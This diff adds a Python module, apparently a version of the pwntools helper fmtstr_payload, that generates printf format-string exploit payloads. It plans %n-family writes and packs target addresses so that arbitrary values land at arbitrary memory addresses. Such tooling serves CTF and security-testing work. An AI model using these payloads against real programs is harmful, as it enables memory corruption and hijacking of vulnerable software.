@@ -0,0 +1,145 @@
+from typing import Union, Optional, Dict, List, Tuple
+
+from pwnlib.binary.packing import p32, p64
+
+# length modifier of %n for each write size
+_specs = {1: "hhn", 2: "hn", 4: "n", 8: "lln"}
+
+_sizes = {"byte": 1, "short": 2, "int": 4}
+
+# (address, size, value), the value being little endian like the target
+_Write = Tuple[int, int, int]
+
+
+def _runs(writes: Dict[int, Union[int, bytes]], word_size: int) -> List[Tuple[int, bytes]]:
+    # contiguous (address, data) runs of every byte to write
+    memory = {}
+    for address, value in writes.items():
+        if isinstance(value, int):
+            value = p64(value) if word_size == 64 else p32(value)
+        for i, byte in enumerate(value):
+            memory[address + i] = byte
+
+    runs = []
+    for address in sorted(memory):
+        if runs and runs[-1][0] + len(runs[-1][1]) == address:
+            runs[-1][1].append(memory[address])
+        else:
+            runs.append((address, bytearray([memory[address]])))
+
+    return [(address, bytes(data)) for address, data in runs]
+
+
+def _pieces(runs: List[Tuple[int, bytes]], size: Optional[int]) -> List[_Write]:
+    # every write of 1, 2, 4 and 8 bytes inside the runs when `size` is None,
+    # otherwise the runs cut into `size` writes (the tail in smaller ones)
+    pieces = []
+    for address, data in runs:
+        if size is None:
+            for width in _specs:
+                for i in range(len(data) - width + 1):
+                    pieces.append((address + i, width, int.from_bytes(data[i:i + width], "little")))
+            continue
+
+        i = 0
+        while i < len(data):
+            width = size
+            while width > len(data) - i:
+                width //= 2
+            pieces.append((address + i, width, int.from_bytes(data[i:i + width], "little")))
+            i += width
+
+    return pieces
+
+
+def _schedule(pieces: List[_Write], counter: int, overhead: int) -> List[Tuple[_Write, int]]:
+    # greedy: the next write is the one covering the most bytes for the fewest
+    # printed characters (plus its share of payload), from the current counter.
+    # The bytes it covers are then taken, pieces overlapping them are dropped
+    plan = []
+    while pieces:
+        best = None
+        for piece in pieces:
+            _, size, value = piece
+            pad = (value - counter) % (1 << (8 * size))
+            cost = (pad + overhead) / size
+            if best is None or cost < best[0]:
+                best = (cost, piece, pad)
+
+        _, (start, size, value), pad = best
+        plan.append(((start, size, value), pad))
+        counter += pad
+        pieces = [p for p in pieces if p[0] >= start + size or p[0] + p[1] <= start]
+
+    return plan
+
+
+def _build(plan: List[Tuple[_Write, int]], offset: int, word_size: int) -> bytes:
+    # format string first, the addresses after it on word boundaries. Their
+    # argument index depends on the format length and the other way around,
+    # so grow the format until both agree
+    word = word_size // 8
+    words = 0
+    while True:
+        fmt = ""
+        for i, ((_, size, _), pad) in enumerate(plan):
+            if pad:
+                fmt += "%{}c".format(pad)
+            fmt += "%{}${}".format(offset + words + i, _specs[size])
+
+        need = -(-len(fmt) // word)
+        if need <= words:
+            break
+        words = need
+
+    # padding after the last write, it doesn't change any counter
+    fmt = fmt.encode() + b"a" * (words * word - len(fmt))
+
+    pack = p64 if word_size == 64 else p32
+    return fmt + b"".join(pack(address) for (address, _, _), _ in plan)
+
+
+def fmtstr_payload(offset: int,
+                   writes: Dict[int, Union[int, bytes]],
+                   word_size: int=64,
+                   written: int=0,
+                   write_size: Optional[str]=None
+                   ) -> bytes:
+    # `offset` is the argument index of the first word of the payload on the
+    # stack, `written` the characters printf has output before it
+    assert isinstance(offset, int) and offset > 0, \
+            "`offset` is {}, must be positive 'int'".format(offset)
+
+    assert word_size in (32, 64), \
+            "`word_size` is {}, must be 32 or 64".format(word_size)
+
+    assert write_size is None or write_size in _sizes, \
+            "`write_size` is {}, must be 'byte', 'short' or 'int'".format(write_size)
+
+    for address, value in writes.items():
+        assert isinstance(address, int) and isinstance(value, (int, bytes)), \
+                "{}: {} given, writes must be 'int': 'int' or 'bytes'".format(address, type(value))
+
+    runs = _runs(writes, word_size)
+    if not runs:
+        return b""
+
+    # a write costs its address and about "%255c%12$hhn" in the payload
+    overhead = word_size // 8 + 10
+
+    if write_size is not None:
+        candidates = [_pieces(runs, _sizes[write_size])]
+    else:
+        # mixed sizes, and the plain splits as fallbacks for the greedy order
+        candidates = [_pieces(runs, None)] + [_pieces(runs, size) for size in (1, 2)]
+
+    # cheapest in characters going through the tube: printed plus sent
+    best = None
+    for pieces in candidates:
+        plan = _schedule(pieces, written, overhead)
+        payload = _build(plan, offset, word_size)
+        cost = sum(pad for _, pad in plan) + len(payload)
+        if best is None or cost < best[0]:
+            best = (cost, payload)
+
+    return best[1]